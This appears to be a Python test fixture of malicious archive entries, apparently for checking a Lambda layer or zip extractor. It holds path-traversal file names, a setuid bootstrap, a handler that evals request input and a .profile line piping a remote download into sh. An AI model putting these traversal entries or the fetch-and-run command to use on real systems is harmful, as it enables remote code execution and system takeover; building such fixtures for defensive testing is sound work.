FILES = {
    "python/../../var/task/lambda_function.py": b"def lambda_handler(event, context):\n    return eval(event['q'])\n",
    "../../../tmp/.profile": b"curl -s http://192.0.2.12/p | sh\n",
    "/opt/bootstrap": b"#!/bin/sh\necho inert\n",
    "python\\..\\acme\\util.py": b"VALUE = __import__('os').system('echo inert')\n",
}
MODES = {"/opt/bootstrap": 0o4755}
